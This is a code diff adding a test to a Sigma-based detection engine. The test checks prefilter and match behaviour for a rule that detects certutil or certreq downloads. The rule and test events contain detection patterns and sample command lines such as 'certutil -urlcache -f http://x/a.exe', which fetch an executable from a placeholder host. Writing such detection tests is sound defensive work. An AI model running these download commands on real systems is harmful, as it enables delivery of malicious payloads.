@@ -8,6 +8,7 @@ import { AhoCorasick } from '../../src/engine/aho-corasick.js';
 import { requiredLiterals } from '../../src/engine/regex-literals.js';
 import { re2Regex } from '../../src/engine/regex-re2.js';
 import { Detector } from '../../src/engine/detector.js';
+import { EventView } from '../../src/engine/event-access.js';
 import { prepareRules } from '../../src/engine/rulebook.js';
 import { parseSigmaText, emptyCollection, addParsedFile, checkCollection } from '../../src/sigma/load.js';
 import { builtinPipeline } from '../../src/pipeline/builtin.js';
@@ -218,6 +219,37 @@ test('the prefilter keeps exactly the plain path detections: keywords in nested 
     total += b.length;
   }
   assert.equal(total, 10, 'the events do match');
+});
+
+test('a rule with literals in several conjuncts wakes only when each has one in the event', () => {
+  const yaml = `title: image and command line
+logsource: {product: test}
+detection:
+  img: {Image|endswith: ['\\\\certutil.exe', '\\\\certreq.exe']}
+  cli: {CommandLine|contains: ['urlcache', 'verifyctl']}
+  cond: {CommandLine|re: 'http[s]?://'}
+  condition: img and cli and cond
+`;
+  const col = emptyCollection();
+  addParsedFile(col, parseSigmaText(yaml, 'rules.yml'));
+  checkCollection(col);
+  const set = prepareRules(col, { pipelines: [], regex: re2Regex }).set;
+  const plain = new Detector(set, { regex: re2Regex, prefilter: false });
+  const cases: Array<[Record<string, unknown>, boolean, boolean]> = [
+    // event, woken by the prefilter, matched
+    [{ Image: 'C:\\Windows\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe' }, true, true],
+    [{ Image: 'C:\\Windows\\certutil.exe', CommandLine: 'certutil -hashfile a.exe' }, false, false],
+    [{ Image: 'C:\\Windows\\cmd.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe' }, false, false],
+    [{ Image: 'C:\\Windows\\CERTREQ.EXE', CommandLine: 'x VERIFYCTL https://y' }, true, true],
+    // The regex's required literal (http) is a third group.
+    [{ Image: 'C:\\Windows\\certreq.exe', CommandLine: 'verifyctl no url' }, false, false],
+    [{ Image: 'C:\\Windows\\certreq.exe', CommandLine: 'verifyctl http:/broken' }, true, false],
+  ];
+  for (const [event, woken, matched] of cases) {
+    assert.equal(set.prefilter.scan(new EventView(structuredClone(event))).allows(0), woken, JSON.stringify(event));
+    assert.equal(new Detector(set, { regex: re2Regex }).next(structuredClone(event)).matches.length, matched ? 1 : 0, JSON.stringify(event));
+    assert.equal(plain.next(structuredClone(event)).matches.length, matched ? 1 : 0, JSON.stringify(event));
+  }
 });
 
 test('a guard is taken as proven by the index only when it says nothing more than channel and event id', () => {
